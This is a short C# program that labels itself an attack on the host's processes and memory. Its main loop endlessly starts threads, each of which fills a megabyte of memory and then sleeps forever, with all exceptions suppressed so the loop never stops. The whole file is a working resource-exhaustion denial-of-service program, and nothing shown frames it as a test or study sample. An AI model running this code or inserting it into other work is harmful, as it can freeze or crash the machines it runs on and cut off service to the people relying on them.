// Attacks: the host's processes and memory: threads of C# that each hold memory and never end.
using System.Threading;
class Program {
    static void Main() {
        for (;;) {
            try {
                var thread = new Thread(() => { var held = new byte[1 << 20]; for (int i = 0; i < held.Length; i += 4096) held[i] = 1; Thread.Sleep(-1); });
                thread.Start();
            } catch (System.Exception) { }
        }
    }
}
